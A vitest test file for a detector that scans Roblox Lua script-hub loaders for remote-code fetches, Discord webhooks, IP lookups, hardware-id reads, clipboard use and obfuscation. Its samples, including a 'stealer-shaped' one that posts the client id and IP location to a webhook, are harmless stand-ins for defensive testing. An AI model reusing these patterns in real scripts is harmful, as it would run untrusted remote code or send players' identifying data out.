import { describe, expect, it } from 'vitest';
import { analyseLoader } from './loader-analysis.ts';
import { FINDING_CODES, FINDINGS } from './loader-findings.ts';

// The loader analysis (docs/decisions/0018-loader-analysis.md#loader-findings) on samples written for these tests: harmless
// text shaped like what script hubs see (fetches, webhooks, lookups, obfuscation), never working
// malware. Each sample names exactly the findings and domains it must give.

interface Sample {
  name: string;
  source: string;
  findings: string[];
  domains?: string[];
}

const escaped = (text: string) => [...text].map((character) => `\\${character.charCodeAt(0)}`).join('');
const dense = Array.from({ length: 1_200 }, (_, i) => String.fromCharCode(33 + ((i * 7919) % 90))).join('');

const SAMPLES: Sample[] = [
  { name: 'a host written with a final dot and in capitals', source: 'loadstring(game:HttpGet("https://Raw.GitHubUserContent.com./demo/a.lua"))()', findings: ['remote-code'], domains: ['raw.githubusercontent.com'] },
  { name: 'a plain loader from GitHub', source: 'loadstring(game:HttpGet("https://raw.githubusercontent.com/demo/hub/main/loader.lua"))()', findings: ['remote-code'], domains: ['raw.githubusercontent.com'] },
  { name: 'HttpGetAsync through a name built with ..', source: 'local base = "https://www.example.com/"\nlocal url = base .. "v2/main.lua"\nloadstring(game:HttpGetAsync(url))()', findings: ['remote-code'], domains: ['example.com'] },
  { name: 'a Luau loader with types and a backtick URL', source: 'local id: string? = "7"\nlocal code = game:HttpGet(`https://cdn.example.org/s/{id}.lua`)\nloadstring(code)()', findings: ['remote-code'], domains: ['cdn.example.org'] },
  { name: 'a fetch of data only (no code run)', source: 'local data = game:HttpGet("https://api.example.net/version.json")\nprint(data)', findings: [], domains: ['api.example.net'] },
  { name: 'nothing fetched at all', source: 'local Players = game:GetService("Players")\nprint(Players.LocalPlayer.Name)', findings: [], domains: [] },
  { name: 'a URL in a comment only', source: '-- loadstring(game:HttpGet("https://pastebin.com/raw/abc"))()\n--[[ request({ Url = "https://discord.com/api/webhooks/1/x" }) ]]\nprint("hi")', findings: [], domains: [] },
  { name: 'a URL in an unrelated string', source: 'print("Join us: https://discord.com/api/webhooks/1/demo and https://ipinfo.io")\nloadstring("print(1)")()', findings: [], domains: [] },
  { name: 'a Discord webhook through request', source: 'local hook = "https://discord.com/api/webhooks/123/demo-token"\nrequest({ Url = hook, Method = "POST", Body = "{}" })', findings: ['webhook'], domains: ['discord.com'] },
  { name: 'a Guilded webhook through syn.request', source: 'syn.request({ Url = "https://media.guilded.gg/webhooks/x", Method = "POST" })\nsyn.request{ Url = "https://www.guilded.gg/api/webhooks/9/y" }', findings: ['webhook'], domains: ['guilded.gg', 'media.guilded.gg'] },
  { name: 'a webhook spelled in escapes', source: `http_request({ Url = "${escaped('https://discordapp.com/api/webhooks/5/demo-token')}" })`, findings: ['obfuscated', 'webhook'], domains: ['discordapp.com'] },
  { name: 'an IP lookup', source: 'local info = game:HttpGet("http://ip-api.com/json/")\nprint(info)', findings: ['ip-lookup'], domains: ['ip-api.com'] },
  { name: 'another IP lookup and a location one', source: 'local a = request({ Url = "https://api.ipify.org" })\nlocal b = http_request({ Url = "https://ipinfo.io/json" })', findings: ['ip-lookup'], domains: ['api.ipify.org', 'ipinfo.io'] },
  { name: 'the client id', source: 'local id = game:GetService("RbxAnalyticsService"):GetClientId()\nprint(id)', findings: ['hardware-id'] },
  { name: 'an executor hardware id', source: 'local h = gethwid and gethwid() or "none"', findings: ['hardware-id'] },
  { name: 'the clipboard', source: 'setclipboard("https://example.com/key")', findings: ['clipboard'] },
  { name: 'file writes', source: 'writefile("hub/settings.json", "{}")\nappendfile("hub/log.txt", "x")\ndelfile("hub/old.txt")', findings: ['file-write'] },
  { name: 'a paste site', source: 'loadstring(game:HttpGet("https://pastebin.com/raw/AbCdEf12"))()', findings: ['remote-code', 'short-link'], domains: ['pastebin.com'] },
  { name: 'a link shortener', source: 'loadstring(game:HttpGet("https://bit.ly/3demo"))()', findings: ['remote-code', 'short-link'], domains: ['bit.ly'] },
  { name: 'getfenv', source: 'local env = getfenv(0)\nenv.print("x")', findings: ['obfuscated'] },
  { name: 'a long escaped byte string', source: `local s = "${escaped('print("this text is hidden in decimal escapes")')}"\nloadstring(s)()`, findings: ['obfuscated'] },
  { name: 'a dense packed string', source: `local blob = [[${dense}]]\nreturn blob`, findings: ['obfuscated'] },
  { name: 'an obfuscator macro', source: 'LPH_NO_VIRTUALIZE(function() print(1) end)()', findings: ['obfuscated'] },
  { name: 'queue_on_teleport', source: 'queue_on_teleport("print(1)")', findings: ['teleport'] },
  { name: 'a server hop', source: 'local TS = game:GetService("TeleportService")\nTS:TeleportToPlaceInstance(game.PlaceId, "job", game.Players.LocalPlayer)', findings: ['teleport'] },
  // Ways a loader hides where it sends data: through names, tables, pieces and index strings.
  { name: 'a fetch under another name (syn.request or http_request or request)', source: 'local req = (syn and syn.request) or http_request or request\nreq({ Url = "https://discord.com/api/webhooks/1/demo", Method = "POST" })', findings: ['webhook'], domains: ['discord.com'] },
  { name: 'HttpGet kept in a name and called later', source: 'local get = game.HttpGet\nloadstring(get(game, "https://example.com/a.lua"))()', findings: ['remote-code'], domains: ['example.com'] },
  { name: 'a request table built in a name first', source: 'local data = {\n  Url = "https://discord.com/api/webhooks/2/demo",\n  Method = "POST",\n}\nhttp_request(data)', findings: ['webhook'], domains: ['discord.com'] },
  { name: 'a request table filled field by field', source: 'local data = {}\ndata.Url = "https://ipinfo.io/json"\ndata["Method"] = "GET"\nhttp_request(data)', findings: ['ip-lookup'], domains: ['ipinfo.io'] },
  { name: 'a webhook split in pieces joined with ..', source: 'local u = "https://disc" .. "ord.com/api/" .. "webhooks/3/demo"\nrequest({ Url = u })', findings: ['webhook'], domains: ['discord.com'] },
  { name: 'a versioned webhook address joined in the call', source: 'game:HttpPost("https://discord.com/api/v10/" .. "webhooks/4/demo", "{}")', findings: ['webhook'], domains: ['discord.com'] },
  { name: 'a Guilded media webhook', source: 'request({ ["Url"] = "https://media.guilded.gg/webhooks/5/demo" })', findings: ['webhook'], domains: ['media.guilded.gg'] },
  { name: 'HttpGet spelled as an index string', source: `local code = game["${escaped('HttpGet')}"](game, "https://pastebin.com/raw/demo")\nloadstring(code)()`, findings: ['remote-code', 'short-link'], domains: ['pastebin.com'] },
  { name: 'setclipboard spelled as an index string', source: 'getgenv()["setclipboard"]("demo")', findings: ['clipboard'] },
  { name: 'text spelled as string.char bytes', source: `loadstring(string.char(${Array.from({ length: 45 }, (_, i) => 97 + (i % 26)).join(', ')}))()`, findings: ['obfuscated'] },
  { name: 'a few string.char bytes (a separator)', source: 'local sep = string.char(45, 45, 45)\nprint(sep)', findings: [] },
  { name: 'a webhook in a name that is only printed', source: 'local note = "https://discord.com/api/webhooks/6/demo"\nprint(note)\nloadstring(game:HttpGet("https://example.com/a.lua"))()', findings: ['remote-code'], domains: ['example.com'] },
  { name: 'a table of links never fetched', source: 'local links = { "https://ipinfo.io", "https://bit.ly/demo" }\nfor _, link in links do print(link) end', findings: [], domains: [] },
  {
    name: 'a stealer-shaped sample with everything',
    source: [
      'local hwid = game:GetService("RbxAnalyticsService"):GetClientId()',
      'local where = game:HttpGet("https://ipwho.is/")',
      'setclipboard("https://demo.example/key")',
      'request({ Url = "https://discord.com/api/webhooks/1/demo", Method = "POST", Body = hwid .. where })',
      'loadstring(game:HttpGet("https://rentry.co/demo/raw"))()',
    ].join('\n'),
    findings: ['webhook', 'ip-lookup', 'hardware-id', 'clipboard', 'short-link', 'remote-code'],
    domains: ['discord.com', 'ipwho.is', 'rentry.co'],
  },
];

describe('the loader analysis', () => {
  it.each(SAMPLES.map((sample) => [sample.name, sample] as const))('finds exactly what %s does', (_, sample) => {
    const analysis = analyseLoader(sample.source);
    expect(analysis.findings.map((item) => item.code).sort()).toEqual([...sample.findings].sort());
    if (sample.domains) expect(analysis.domains).toEqual(sample.domains);
  });

  it('covers every finding code with at least one sample', () => {
    const found = new Set(SAMPLES.flatMap((sample) => analyseLoader(sample.source).findings.map((item) => item.code)));
    // Trust and the step budget have their own tests (the budget's in tests/api/loader-analysis-bounds.test.ts).
    expect(FINDING_CODES.filter((code) => code !== 'trusted-remote-code' && code !== 'incomplete' && !found.has(code))).toEqual([]);
  });

  it('lists findings worst first, each with its severity and plain sentence', () => {
    const { findings } = analyseLoader(SAMPLES.at(-1)?.source ?? '');
    expect(findings.map((item) => item.severity)).toEqual(['high', 'high', 'high', 'medium', 'medium', 'medium']);
    for (const item of findings) expect(item.message).toBe(FINDINGS[item.code].message);
  });

  it('counts fetches from trusted domains (and their subdomains) as information only', () => {
    const source = 'loadstring(game:HttpGet("https://raw.githubusercontent.com/demo/a.lua"))()\nloadstring(game:HttpGet("https://github.com/demo/b.lua"))()';
    expect(analyseLoader(source, { trusted: ['githubusercontent.com', 'github.com'] }).findings.map((item) => [item.code, item.severity])).toEqual([['trusted-remote-code', 'info']]);
    // One untrusted domain among them is enough for the medium finding.
    expect(analyseLoader(source, { trusted: ['github.com'] }).findings.map((item) => item.code)).toEqual(['remote-code']);
  });

  it('keeps the texts it follows bounded, however a loader multiplies them', () => {
    // Each line joins a name to itself four times: without bounds the texts grow exponentially.
    const doubling = `a = "https://x.example/" .. a .. a .. a .. a\n`.repeat(400).slice(0, 19_900) + '\nrequest(a)';
    expect(analyseLoader(doubling).domains).toEqual(['x.example']);
    const nested = `request(${'('.repeat(5_000)}"https://y.example/"${')'.repeat(5_000)})`;
    expect(analyseLoader(nested).domains).toEqual(['y.example']);
  });

  it('reads the longest loader the forms accept, and never throws on broken text', () => {
    const longest = 'loadstring(game:HttpGet("https://example.com/a.lua"))()\n'.repeat(400).slice(0, 20_000);
    expect(analyseLoader(longest).domains).toEqual(['example.com']);
    for (const source of ['', '"', '[[', '--[[', '`{', 'request(', 'request{', 'x = ', '\u0000\ud800']) expect(() => analyseLoader(source)).not.toThrow();
  });
});
